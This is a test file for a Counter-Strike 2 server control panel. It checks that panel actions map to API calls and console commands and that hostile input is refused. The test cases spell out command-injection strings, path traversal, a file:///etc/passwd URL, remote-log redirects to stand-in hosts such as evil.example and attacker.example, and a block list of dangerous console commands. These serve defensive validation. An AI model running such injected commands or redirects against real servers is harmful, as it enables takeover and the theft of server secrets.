import { describe, expect, test } from "vitest";
import {
  consoleCommands,
  matchConfigRefusal,
  planAction,
  rconSteps,
  pushRefusal,
  toggleFromCommand,
} from "./commands";
import { InvalidActionError, validateFreeCommand } from "./consoleInput";
import type { ServerAction } from "../lib/actionRegistry";
import type { SwitchName } from "../lib/actionRegistry";

const STEAM = "76561198000000001";
const PUSH_SECRET = "0f".repeat(32);

describe("planAction on the plugin API", () => {
  test.each<[ServerAction, unknown]>([
    [
      { kind: "say", message: "Привіт" },
      [{ method: "POST", path: "/private/say", body: { message: "Привіт" } }],
    ],
    [{ kind: "restartGame" }, [{ method: "POST", path: "/private/map/restart" }]],
    [{ kind: "skipWarmup" }, [{ method: "POST", path: "/private/map/warmup/skip" }]],
    [{ kind: "resetStats" }, [{ method: "POST", path: "/private/restart" }]],
    [{ kind: "restartServices" }, [{ method: "POST", path: "/private/_restart" }]],
    [{ kind: "serverUpdate" }, [{ method: "POST", path: "/private/server/update" }]],
    [
      { kind: "kick", steamId: STEAM },
      [{ method: "POST", path: `/private/players/${STEAM}/kick` }],
    ],
    [
      { kind: "ban", steamId: STEAM, duration: 0 },
      [{ method: "POST", path: `/private/players/${STEAM}/ban`, body: { duration: 0 } }],
    ],
    [
      { kind: "unban", steamId: STEAM },
      [{ method: "POST", path: "/private/unban", body: { steamId: STEAM } }],
    ],
    [
      { kind: "cvar", cvar: "mp_roundtime", value: "2.5" },
      [{ method: "PUT", path: "/private/cvar", body: { cvar: "mp_roundtime", value: "2.5" } }],
    ],
    [
      { kind: "changeMap", map: "de_nuke" },
      [{ method: "POST", path: "/private/command", body: { command: "changelevel de_nuke" } }],
    ],
  ])("%j", (action, expected) => {
    expect(planAction(action, "HTTP")).toMatchObject(expected as object[]);
    expect(planAction(action, "HTTP").every((r) => r.isPrivate)).toBe(true);
  });

  test("game mode sends alias, mode and type in sequence", () => {
    expect(planAction({ kind: "gameMode", mode: "wingman" }, "HTTP").map((r) => r.body)).toEqual([
      { command: "game_alias wingman" },
      { command: "game_mode 2" },
      { command: "game_type 0" },
    ]);
  });

  test("bhop switches both cvars", () => {
    expect(consoleCommands({ kind: "bhop", enabled: true })).toEqual([
      "sv_autobunnyhopping 1",
      "sv_enablebunnyhopping 1",
    ]);
  });
});

describe("planAction on the RCON proxy", () => {
  test("every action becomes console commands on /command", () => {
    expect(planAction({ kind: "ban", steamId: STEAM, duration: 5 }, "RCON_PROXY")).toEqual([
      { method: "POST", path: "/command", body: { command: `css_ban ${STEAM} 5` } },
    ]);
    expect(planAction({ kind: "isPaused", enabled: false }, "RCON_PROXY")[0]!.body).toEqual({
      command: "mp_unpause_match",
    });
  });

  test("launch with team assignment is refused, clearly", () => {
    const payload = {
      Mode: "wingman",
      Map: "de_nuke",
      TeamA: { Side: "CT" as const, Players: [] },
      TeamB: { Side: "T" as const, Players: [] },
    };
    expect(() => planAction({ kind: "launchGame", payload }, "RCON_PROXY")).toThrow(
      /недоступний для RCON/,
    );
  });
});

describe("hostile input is refused before anything is sent", () => {
  const hostile: [string, ServerAction, RegExp][] = [
    ["command chaining with ;", { kind: "command", command: "say hi; quit" }, /";"/],
    ["newline in a command", { kind: "command", command: "say hi\nquit" }, /перенесення/],
    ["carriage return", { kind: "command", command: "say hi\rquit" }, /перенесення/],
    ["NUL byte", { kind: "command", command: "say hi\0quit" }, /NUL/],
    ["quit", { kind: "command", command: "quit" }, /заборонена/],
    ["exit with spaces and caps", { kind: "command", command: "  EXIT  " }, /заборонена/],
    ["rcon_password", { kind: "command", command: "rcon_password x" }, /заборонена/],
    ["sv_rcon_banpenalty", { kind: "command", command: "sv_rcon_banpenalty 0" }, /заборонена/],
    [
      "logaddress_add",
      { kind: "command", command: "logaddress_add_http http://evil" },
      /заборонена/,
    ],
    ["writeid", { kind: "command", command: "writeid" }, /заборонена/],
    ["alias", { kind: "command", command: "alias x quit" }, /заборонена/],
    ["bind", { kind: "command", command: "bind k quit" }, /заборонена/],
    ["plugin control", { kind: "command", command: "css_plugins unload x" }, /заборонена/],
    [
      "exec path traversal in the free box",
      { kind: "command", command: "exec ../../autoexec" },
      /конфіги/,
    ],
    ["over-long command", { kind: "command", command: "say " + "x".repeat(330) }, /330/],
    ["empty command", { kind: "command", command: "   " }, /Введіть/],
    ["chat with ;", { kind: "say", message: "hi; quit" }, /";"/],
    ["chat with quotes", { kind: "say", message: 'hi" quit' }, /лапки/],
    ["over-long chat", { kind: "say", message: "x".repeat(101) }, /100/],
    ["map with ;", { kind: "changeMap", map: "de_nuke;quit" }, /Оберіть мапу/],
    ["unknown map", { kind: "changeMap", map: "de_notamap" }, /Оберіть мапу/],
    ["empty map", { kind: "changeMap", map: "" }, /Оберіть мапу/],
    ["workshop id with text", { kind: "workshopMap", workshopId: "123456; quit" }, /Оберіть мапу/],
    ["config with ..", { kind: "execConfig", config: "../server" }, /Невідомий конфіг/],
    ["config with a path", { kind: "execConfig", config: "cfg/1vs1" }, /Невідомий конфіг/],
    ["password with ;", { kind: "setPassword", password: "a;quit" }, /Пароль/],
    ["password with quote", { kind: "setPassword", password: 'a"b' }, /Пароль/],
    ["password with space", { kind: "setPassword", password: "a b" }, /Пароль/],
    ["password with newline", { kind: "setPassword", password: "a\nb" }, /Пароль/],
    ["empty password", { kind: "setPassword", password: "" }, /Пароль/],
    ["cvar that is a blocked command", { kind: "cvar", cvar: "rcon_password", value: "x" }, /cvar/],
    ["cvar with ;", { kind: "cvar", cvar: "mp_x;quit", value: "1" }, /cvar/],
    ["cvar value with ;", { kind: "cvar", cvar: "mp_roundtime", value: "1;quit" }, /cvar/],
    [
      "unknown game mode",
      { kind: "gameMode", mode: "battle_royale" },
      /Невідомий режим гри: battle_royale/,
    ],
    ["bad steam id", { kind: "kick", steamId: "7656119800000000; quit" }, /SteamID64/],
    [
      "steam id as a JS-rounded number",
      { kind: "ban", steamId: "76561198000000000000", duration: 5 },
      /SteamID64/,
    ],
    ["negative ban duration", { kind: "ban", steamId: STEAM, duration: -1 }, /Тривалість/],
    // MatchZy's remote log is set only by pushEnable/pushDisable, never by hand.
    ...[
      'matchzy_remote_log_url "https://evil.example/steal"',
      "matchzy_remote_log_header_key X-Panel-Push-Key",
      "matchzy_remote_log_header_value 0123",
      "MATCHZY_REMOTE_LOG_URL",
      "get5_remote_log_url http://evil.example",
      "get5_remote_log_header_value x",
    ].map((command): [string, ServerAction, RegExp] => [
      `free box: ${command}`,
      { kind: "command", command },
      /заборонена/,
    ]),
    [
      "cvar matchzy_remote_log_url",
      { kind: "cvar", cvar: "matchzy_remote_log_url", value: "http://evil.example" },
      /cvar/,
    ],
    [
      "cvar get5_remote_log_header_value",
      { kind: "cvar", cvar: "get5_remote_log_header_value", value: "x" },
      /cvar/,
    ],
    [
      "push without a site URL",
      { kind: "pushEnable", url: "", secret: PUSH_SECRET },
      /CONVEX_SITE_URL/,
    ],
    [
      "push URL that ends the quoted argument",
      { kind: "pushEnable", url: 'https://a.example/x" ; quit', secret: PUSH_SECRET },
      /адреса/,
    ],
    [
      "push URL with a newline",
      { kind: "pushEnable", url: "https://a.example/x\nquit", secret: PUSH_SECRET },
      /адреса/,
    ],
    [
      "push URL that is not http(s)",
      { kind: "pushEnable", url: "file:///etc/passwd", secret: PUSH_SECRET },
      /http/,
    ],
    [
      "push secret that is not ours",
      { kind: "pushEnable", url: "https://a.example/api/events/s1", secret: 'x" ; quit' },
      /секрет/,
    ],
    ["log without a site URL", { kind: "logEnable", url: "" }, /CONVEX_SITE_URL/],
    [
      "log URL that ends the quoted argument",
      { kind: "logEnable", url: 'https://a.example/x";quit' },
      /адреса/,
    ],
    ["log URL that is not http(s)", { kind: "logEnable", url: "ftp://a.example/log" }, /http/],
    ["fractional ban duration", { kind: "ban", steamId: STEAM, duration: 1.5 }, /Тривалість/],
    [
      "match config without a site URL",
      { kind: "loadMatchConfig", url: "", token: PUSH_SECRET, map: "de_nuke" },
      /CONVEX_SITE_URL/,
    ],
    [
      "match config URL that ends the quoted argument",
      {
        kind: "loadMatchConfig",
        url: 'https://a.example/m" ; quit',
        token: PUSH_SECRET,
        map: "de_nuke",
      },
      /адреса/,
    ],
    [
      "match config token that is not ours",
      { kind: "loadMatchConfig", url: "https://a.example/m", token: 'x" quit', map: "de_nuke" },
      /ключ/,
    ],
  ];
  // Catalog lookups are own-key: keys inherited from Object.prototype are not in any allow-list.
  const PROTO_KEYS = ["__proto__", "constructor", "toString", "valueOf", "hasOwnProperty"];
  hostile.push(
    ...PROTO_KEYS.flatMap((key): [string, ServerAction, RegExp][] => [
      [`game mode ${key}`, { kind: "gameMode", mode: key }, /Невідомий режим гри/],
      [`map ${key}`, { kind: "changeMap", map: key }, /Оберіть мапу/],
      [`workshop map ${key}`, { kind: "workshopMap", workshopId: key }, /Оберіть мапу/],
      [`config ${key}`, { kind: "execConfig", config: key }, /Невідомий конфіг/],
      [`exec ${key} from the console`, { kind: "command", command: `exec ${key}` }, /конфіги/],
      [`switch ${key}`, { kind: key as SwitchName, enabled: true }, /Невідомий перемикач/],
    ]),
  );
  test.each(hostile)("%s", (_name, action, message) => {
    for (const type of ["HTTP", "RCON_PROXY"] as const) {
      let thrown: unknown;
      try {
        planAction(action, type);
      } catch (error) {
        thrown = error;
      }
      expect(thrown).toBeInstanceOf(InvalidActionError);
      expect((thrown as Error).message).toMatch(message);
    }
  });

  test("CS2's HTTP log: `log on` first, then the listener; off removes every HTTP listener", () => {
    const url = `https://x.convex.site/api/log/server1/${"ab".repeat(32)}`;
    expect(consoleCommands({ kind: "logEnable", url })).toEqual([
      "log on",
      `logaddress_add_http "${url}"`,
    ]);
    expect(consoleCommands({ kind: "logDisable" })).toEqual(["logaddress_delall_http"]);
    // The free console box can do neither.
    for (const command of [`logaddress_add_http "${url}"`, "logaddress_delall_http", "log on"]) {
      expect(() => planAction({ kind: "command", command }, "RCON_PROXY")).toThrow(
        InvalidActionError,
      );
    }
  });

  test("the limits themselves are allowed", () => {
    expect(planAction({ kind: "command", command: "say " + "x".repeat(326) }, "HTTP")).toHaveLength(
      1,
    );
    expect(planAction({ kind: "say", message: "я".repeat(100) }, "HTTP")).toHaveLength(1);
    expect(
      planAction({ kind: "setPassword", password: "Str0ng!Pass#2026" }, "RCON_PROXY")[0]!.body,
    ).toEqual({
      command: "sv_password Str0ng!Pass#2026",
    });
  });
});

describe("MatchZy push commands", () => {
  test("enable: header key, header value, then the URL, each quoted (demos get their own URL)", () => {
    const action: ServerAction = {
      kind: "pushEnable",
      url: "https://happy-otter-123.convex.site/api/events/server1",
      secret: PUSH_SECRET,
    };
    const expected = [
      'matchzy_remote_log_header_key "X-Panel-Push-Key"',
      `matchzy_remote_log_header_value "${PUSH_SECRET}"`,
      'matchzy_remote_log_url "https://happy-otter-123.convex.site/api/events/server1"',
    ];
    expect(consoleCommands(action)).toEqual(expected);
    expect(planAction(action, "HTTP").map((r) => r.body)).toEqual(
      expected.map((command) => ({ command })),
    );
    expect(planAction(action, "RCON_PROXY").map((r) => r.body)).toEqual(
      expected.map((command) => ({ command })),
    );
  });

  test("disable: both URLs to nowhere (MatchZy refuses an empty one)", () => {
    expect(consoleCommands({ kind: "pushDisable" })).toEqual([
      'matchzy_remote_log_url "http://127.0.0.1:1/matchzy-push-off"',
      'matchzy_demo_upload_url "http://127.0.0.1:1/matchzy-push-off"',
    ]);
  });

  test("demo upload URL: a Convex upload URL (its ~200-character token too), quoted; nothing else", () => {
    const url = `https://happy-otter-123.convex.cloud/api/storage/upload?token=${"A1-_".repeat(50)}`;
    expect(consoleCommands({ kind: "demoUploadUrl", url })).toEqual([
      `matchzy_demo_upload_url "${url}"`,
    ]);
    for (const bad of ["", "ftp://x/y", `${url}"; quit`, `${url} x`, `${url}${"a".repeat(400)}`]) {
      expect(() => consoleCommands({ kind: "demoUploadUrl", url: bad })).toThrow(/демо MatchZy/);
    }
  });

  test("GOTV recording: tv_record with the panel's path, quoted; tv_stoprecord", () => {
    expect(
      consoleCommands({ kind: "demoRecord", path: "panel_demos/server1_20261129-001500_de_nuke" }),
    ).toEqual(['tv_record "panel_demos/server1_20261129-001500_de_nuke"']);
    for (const path of ["../x", "a b/c", "panel_demos/x;quit", "x", "panel_demos/a/b"]) {
      expect(() => consoleCommands({ kind: "demoRecord", path })).toThrow(/демо/);
    }
    expect(consoleCommands({ kind: "demoStop" })).toEqual(["tv_stoprecord"]);
  });

  test("the free box refuses every remote-log command, with or without arguments", () => {
    for (const name of [
      "matchzy_remote_log_url",
      "get5_remote_log_header_key",
      "matchzy_demo_upload_url",
      "get5_demo_upload_header_value",
    ]) {
      expect(() => validateFreeCommand(name)).toThrow(/заборонена/);
      expect(() => validateFreeCommand(`${name} ""`)).toThrow(/заборонена/);
    }
  });

  test("a refusal in the console's answer is noticed, only for the push actions", () => {
    const enable: ServerAction = {
      kind: "pushEnable",
      url: "https://a.example",
      secret: PUSH_SECRET,
    };
    expect(pushRefusal(enable, "")).toBeNull();
    expect(pushRefusal(enable, 'Unknown command "matchzy_remote_log_url"')).toMatch(/Unknown/);
    expect(
      pushRefusal(
        { kind: "pushDisable" },
        "[RemoteLogURLCommand] Invalid URL: . Please provide a valid URL!",
      ),
    ).toMatch(/Invalid URL/);
    expect(pushRefusal({ kind: "command", command: "x" }, "Unknown command")).toBeNull();
  });
});

describe("loading a launch's MatchZy match config", () => {
  const load: ServerAction = {
    kind: "loadMatchConfig",
    url: "https://happy-otter-123.convex.site/matchzy/match/0123456789abcdef0123456789abcdef",
    token: PUSH_SECRET,
    map: "de_nuke",
  };
  const line = `matchzy_loadmatch_url "${load.url}" "X-Panel-Match-Key" "${PUSH_SECRET}"`;

  test("one console line, URL and header quoted, on every connection type", () => {
    expect(consoleCommands(load)).toEqual([line]);
    expect(planAction(load, "HTTP").map((r) => [r.path, r.body])).toEqual([
      ["/private/command", { command: line }],
    ]);
    expect(planAction(load, "RCON_PROXY").map((r) => r.body)).toEqual([{ command: line }]);
    expect(rconSteps(load)).toEqual([{ command: line }]);
  });

  test("MatchZy's refusals are noticed and said with what to do; silence is success", () => {
    expect(matchConfigRefusal(load, "")).toBeNull();
    const unknown = 'Unknown command "matchzy_loadmatch_url"';
    expect(matchConfigRefusal(load, unknown)).toEqual({
      key: "refusal.actions.matchzyMissing",
      params: { said: unknown },
      message: expect.stringMatching(/MatchZy там не працює.*\(Unknown command/),
    });
    expect(
      matchConfigRefusal(
        load,
        "[MatchZy] [LoadMatchDataCommand] A match is already setup with id: 5, cannot load a new match!",
      ),
    ).toMatchObject({
      key: "refusal.actions.matchzyBusy",
      message: expect.stringMatching(/css_endmatch/),
    });
    expect(
      matchConfigRefusal(load, "[LoadMatchFromURL] HTTP request failed with status code: 401"),
    ).toMatchObject({
      key: "refusal.actions.matchzyNoConfig",
      message: expect.stringMatching(/CONVEX_SITE_URL/),
    });
    expect(matchConfigRefusal({ kind: "command", command: "x" }, "Unknown command")).toBeNull();
  });
});

describe("a tournament launch over direct RCON", () => {
  const launch = (teamA: string, teamB: string): ServerAction => ({
    kind: "launchGame",
    payload: {
      Mode: "wingman",
      Map: "de_nuke",
      TeamA: { Side: "T", Players: ["a1"], Name: teamA },
      TeamB: { Side: "CT", Players: ["b1"], Name: teamB },
    },
  });

  test("mode, the teams' names (team 1 starts as CT), then the map, which may drop the session", () => {
    expect(rconSteps(launch("Вовки", "Лиси"))).toEqual([
      { command: "game_alias wingman" },
      { command: "game_mode 2" },
      { command: "game_type 0" },
      { command: 'mp_teamname_1 "Лиси"' },
      { command: 'mp_teamname_2 "Вовки"' },
      { command: "changelevel de_nuke", mayDrop: true },
    ]);
  });

  test("a team name stays one quoted argument: it can never run a second command", () => {
    const [, , , first, second] = consoleCommands(launch('x";quit;"', "a\nb`c"));
    expect(first).toBe('mp_teamname_1 "a b c"');
    expect(second).toBe('mp_teamname_2 "x quit"');
  });
});

describe("a free console line is judged on the command the console runs", () => {
  // The console groups quoted text and drops the quotes: `"quit"` runs quit.
  test.each([
    ['"matchzy_remote_log_url" "http://attacker.example/"'],
    ['"get5_remote_log_header_value" x'],
    ['"matchzy_remote_log_header_value"'],
    ['"banid" 0 76561198000000001'],
    ['"sm_rcon" x'],
    ['"unbindall"'],
    ['"QUIT"'],
    ["'quit'"],
    ['"rcon_password" hunter2'],
    ['  "sv_rcon_whitelist_address"  1.2.3.4'],
    ['"exec" ../../autoexec'],
    ["toggle rcon_password a b"],
    ['incrementvar "sv_rcon_banpenalty" 0 10 1'],
    ["help matchzy_remote_log_header_value"],
    ["echo matchzy_remote_log_header_value"],
    ["cvarlist"],
    ['find "remote_log"'],
    ['"quit'],
    ["(exit)"],
  ])("%s is refused", (line) => {
    expect(() => validateFreeCommand(line)).toThrow(InvalidActionError);
  });

  test.each([
    ['sv_cheats "1"', 'sv_cheats "1"'],
    ['mp_roundtime "1.92"', 'mp_roundtime "1.92"'],
    ['exec "pistols_only"', 'exec "pistols_only"'],
  ])("%s is still sent as typed", (line, sent) => {
    expect(validateFreeCommand(line)).toBe(sent);
  });

  test("the cvar action cannot reach a write-only setting through another command", () => {
    for (const [cvar, value] of [
      ["toggle", "rcon_password a b"],
      ["incrementvar", "matchzy_remote_log_url 0 1 1"],
      ["mp_teamname_1", "matchzy_remote_log_header_value"],
    ] as const) {
      expect(() => consoleCommands({ kind: "cvar", cvar, value })).toThrow(InvalidActionError);
    }
  });

  test("a quoted toggle command still keeps the switch in sync", () => {
    expect(toggleFromCommand('"sv_cheats" "1"')).toEqual({ toggle: "cheats", enabled: true });
  });
});

describe("toggleFromCommand", () => {
  test.each([
    ["sv_cheats 1", { toggle: "cheats", enabled: true }],
    ["SV_CHEATS false", { toggle: "cheats", enabled: false }],
    ["mp_pause_match", { toggle: "isPaused", enabled: true }],
    ["mp_unpause_match", { toggle: "isPaused", enabled: false }],
    ["mp_autoteambalance 0", { toggle: "autobalance", enabled: false }],
    ["mp_friendlyfire 1", { toggle: "friendlyfire", enabled: true }],
    ["sv_autobunnyhopping 1", { toggle: "bhop", enabled: true }],
    ["sv_cheats", null],
    ["say sv_cheats 1", null],
  ])("%s", (command, expected) => {
    expect(toggleFromCommand(command)).toEqual(expected);
  });
});

test("InvalidActionError is an Error", () => {
  expect(new InvalidActionError("x")).toBeInstanceOf(Error);
});
